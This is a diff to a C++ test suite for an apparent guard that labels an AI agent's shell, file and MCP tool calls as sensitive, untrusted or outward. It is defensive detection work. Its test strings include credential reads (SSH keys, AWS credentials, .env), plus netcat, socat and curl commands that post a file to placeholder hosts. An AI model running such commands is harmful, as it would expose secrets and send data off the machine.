@@ -7,8 +7,11 @@
 
 #include <algorithm>
 
+#include "commands/local_commands.hpp"
+#include "commands/program_specs.hpp"
 #include "support/policy_layers.hpp"
 #include "toolguard/guard.hpp"
+#include "toolguard/mcp_tools.hpp"
 #include "toolguard/policy_error.hpp"
 #include "toolguard/policy_loader.hpp"
 
@@ -91,7 +94,8 @@ TEST(SessionLabels, TheBuiltInPolicyLabelsInputDataAndSends) {
   };
   const std::vector<Case> cases = {
       {"WebFetch", fetch("https://example.com/"), {"untrusted", "outward"}},
-      {"WebSearch", {{"query", "x"}}, {"untrusted"}},
+      // The query leaves the machine.
+      {"WebSearch", {{"query", "x"}}, {"untrusted", "outward"}},
       // A key outside the workspace is also a file from outside it.
       {"Read", {{"file_path", "/home/u/.ssh/id_ed25519"}}, {"sensitive", "untrusted"}},
       {"Read", {{"file_path", "/work/app/.env"}}, {"sensitive"}},
@@ -99,14 +103,20 @@ TEST(SessionLabels, TheBuiltInPolicyLabelsInputDataAndSends) {
       {"Read", {{"file_path", "/work/app/src/main.c"}}, {}},
       {"Bash", {{"command", "curl -s https://example.com/x"}}, {"untrusted", "outward"}},
       {"Bash", {{"command", "cat .env"}}, {"sensitive"}},
-      {"Bash", {{"command", "printenv"}}, {"sensitive"}},
-      {"Bash", {{"command", "sudo cat /home/u/.aws/credentials"}}, {"sensitive", "untrusted"}},
+      // printenv is not ordinary work (it prints what may be credentials),
+      // so it is not shown local either; sudo has no table at all.
+      {"Bash", {{"command", "printenv"}}, {"sensitive", "outward"}},
+      {"Bash",
+       {{"command", "sudo cat /home/u/.aws/credentials"}},
+       {"sensitive", "untrusted", "outward"}},
       {"Bash", {{"command", "git push origin main"}}, {"outward"}},
       {"Bash", {{"command", "git -C sub -c core.sshCommand=ssh push origin main"}}, {"outward"}},
       {"Bash", {{"command", "/usr/bin/git --no-pager fetch https://a.example/x"}}, {"outward"}},
       {"Bash", {{"command", "aria2c https://a.example/f"}}, {"untrusted", "outward"}},
       {"Bash", {{"command", "gh pr view 12"}}, {"untrusted", "outward"}},
-      {"Bash", {{"command", "ls -la && make test"}}, {}},
+      {"Bash", {{"command", "ls -la && git status && grep -rn TODO src | sort"}}, {}},
+      // A build runs the workspace's code, which may send anything.
+      {"Bash", {{"command", "ls -la && make test"}}, {"outward"}},
       {"mcp__github__create_issue", {{"title", "x"}}, {"untrusted", "outward"}},
       {"mcp__slack__post_message", {{"text", "x"}}, {"untrusted", "outward"}},
   };
@@ -189,6 +199,10 @@ TEST(RuleOfTwo, EveryNeighbourOfTheFlowAsksAtTheSendAndOnlyThen) {
       {"Bash", {{"command", "scp f b.example:"}}},
       {"Bash", {{"command", "echo hi | nc b.example 80"}}},
       {"mcp__slack__post_message", {{"text", "hi"}}},
+      // Not named anywhere as a sender: outward because not shown local.
+      {"Bash", {{"command", "python3 -c 'import urllib.request'"}}},
+      {"Bash", {{"command", "make deploy"}}},
+      {"mcp__notes__save", {{"text", "hi"}}},
   };
   size_t session = 0;
   // The rule of two had its say (another rule may ask as well).
@@ -507,6 +521,143 @@ TEST(SessionPolicy, AManagedRuleOfTwoStandsOverTheUser) {
   const Policy loosened = loadPolicy(user_only.sources());
   EXPECT_FALSE(loosened.sessions.rule_of_two.has_value());
   EXPECT_EQ(loosened.sessions.expire_after, std::chrono::hours(1));
+}
+
+// The outward label is a closed world: every command not shown to stay on
+// this machine is outward, however it is spelled, wrapped or combined, and
+// whatever its name.
+TEST(OutwardLabel, EveryCommandNotShownLocalIsOutward) {
+  SessionGuard g;
+  const std::vector<std::string> sends = {
+      "curl -d @f https://x.example",
+      "python3 -c 'import urllib.request as u; u.urlopen(\"https://x.example\")'",
+      "node -e 'fetch(\"https://x.example\")'",
+      "perl -MIO::Socket::INET -e 1",
+      "ruby -rnet/http -e 1",
+      "php -r 'file_get_contents(\"https://x.example\");'",
+      "openssl s_client -connect x.example:443",
+      "socat - TCP:x.example:80",
+      "busybox nc x.example 80",
+      "git -c http.proxy=x push",
+      "git send-email x",
+      "git fetch",
+      "git commit -m wip",
+      "npm publish",
+      "npm test",
+      "npx some-tool",
+      "uv run tool",
+      "make deploy",
+      "pip download requests",
+      "rclone copy f remote:",
+      "docker run --rm alpine wget https://x.example",
+      "bash ./send.sh",
+      "./send",
+      "\"$TOOL\" https://x.example",
+      "source ./env.sh",
+      "sqlite3 db .tables",
+      "curl http://localhost:8080/relay",
+  };
+  const std::vector<std::string> wrappers = {"",         "timeout 5 ", "env A=1 ", "nice -n 5 ",
+                                             "command ", "nohup ",     "time ",    "/usr/bin/env "};
+  const std::vector<std::string> shapes = {
+      "%", "ls -la && %", "% | cat", "echo \"$(%)\"", "git status; %", "cat <(%)"};
+  size_t n = 0;
+  for (const std::string& send : sends) {
+    for (const std::string& wrapper : wrappers) {
+      for (const std::string& shape : shapes) {
+        std::string command = shape;
+        command.replace(command.find('%'), 1, wrapper + send);
+        SCOPED_TRACE(command);
+        const Decision d = g.bash(command, "w" + std::to_string(++n));
+        EXPECT_TRUE(has(d.labels, "outward"));
+      }
+    }
+  }
+}
+
+TEST(OutwardLabel, LocalWorkIsNotOutward) {
+  SessionGuard g;
+  const std::vector<std::string> local = {
+      "ls -la",
+      "cat src/main.c",
+      "grep -rn TODO src",
+      "rg -n needle",
+      "git status",
+      "git log --oneline -5",
+      "git diff HEAD~1",
+      "git add src/a.c",
+      "git stash list",
+      "jq .name package.json",
+      "wc -l src/main.c",
+      "sort names.txt | uniq -c",
+      "sed -n 1,20p src/main.c",
+      "find src -name '*.c'",
+      "mkdir -p build/out",
+      "echo done",
+      "node --version",
+      "timeout 5 ls",
+      "env LC_ALL=C sort f",
+  };
+  size_t n = 0;
+  for (const std::string& command : local) {
+    SCOPED_TRACE(command);
+    const Decision d = g.bash(command, "l" + std::to_string(++n));
+    EXPECT_FALSE(has(d.labels, "outward"));
+  }
+}
+
+// Every table of ordinary work outside the local list is outward as it
+// stands; every one inside it is not, whenever its command is ordinary
+// work (allowed by the default policy with nothing else to say).
+TEST(OutwardLabel, EveryTableIsLocalOnlyWhenListed) {
+  SessionGuard g("");
+  const auto listed = detail::localTableCommands();
+  for (std::string_view command : listed) {
+    EXPECT_NE(detail::findProgramSpec(detail::canonicalCommand(command)), nullptr)
+        << command << " names no table";
+  }
+  size_t n = 0;
+  size_t local_seen = 0;
+  for (const detail::ProgramSpec* spec : detail::allProgramSpecs()) {
+    const std::string command = detail::canonicalCommand(spec->command);
+    const bool is_listed = std::find(listed.begin(), listed.end(), spec->command) != listed.end();
+    SCOPED_TRACE(command);
+    const Decision d = g.bash(command, "t" + std::to_string(++n));
+    if (!is_listed) {
+      EXPECT_TRUE(has(d.labels, "outward"));
+    } else if (d.verdict == Verdict::Allow) {
+      EXPECT_FALSE(has(d.labels, "outward"));
+      ++local_seen;
+    }
+  }
+  EXPECT_GT(local_seen, 100u);
+}
+
+// An MCP tool is local, neither outward nor untrusted, only when its
+// listing says read-only and closed-world; a hook sees no listing.
+TEST(OutwardLabel, AnMcpToolIsLocalOnlyWhenItsListingSaysSo) {
+  SessionGuard g;
+  auto listed = [](const std::string& name, nlohmann::json annotations) {
+    return mcpToolInfo("notes", {{"name", name}, {"annotations", std::move(annotations)}},
+                       Verdict::Ask);
+  };
+  g.policy.tools.add(listed("lookup", {{"readOnlyHint", true}, {"openWorldHint", false}}));
+  g.policy.tools.add(listed("search", {{"readOnlyHint", true}}));
+  g.policy.tools.add(listed("save", {{"openWorldHint", false}, {"destructiveHint", false}}));
+  GuardOptions options;
+  options.report_ask = true;
+  options.sessions = g.sessions;
+  g.guard = std::make_unique<Guard>(Engine(g.policy), std::move(options));
+  const nlohmann::json args = {{"q", "x"}};
+  EXPECT_TRUE(g.call("mcp__notes__lookup", args, "m1").labels.empty());
+  const Decision search = g.call("mcp__notes__search", args, "m2");
+  EXPECT_TRUE(has(search.labels, "outward") && has(search.labels, "untrusted"));
+  // Writes only on this machine, by its listing: neither.
+  EXPECT_TRUE(g.call("mcp__notes__save", args, "m3").labels.empty());
+  for (const char* unseen : {"mcp__other__lookup", "mcp_notes_lookup", "some_plugin_tool"}) {
+    const Decision d = g.call(unseen, args, std::string("m-") + unseen);
+    EXPECT_TRUE(has(d.labels, "outward")) << unseen;
+  }
 }
 
 }  // namespace session_rules_test
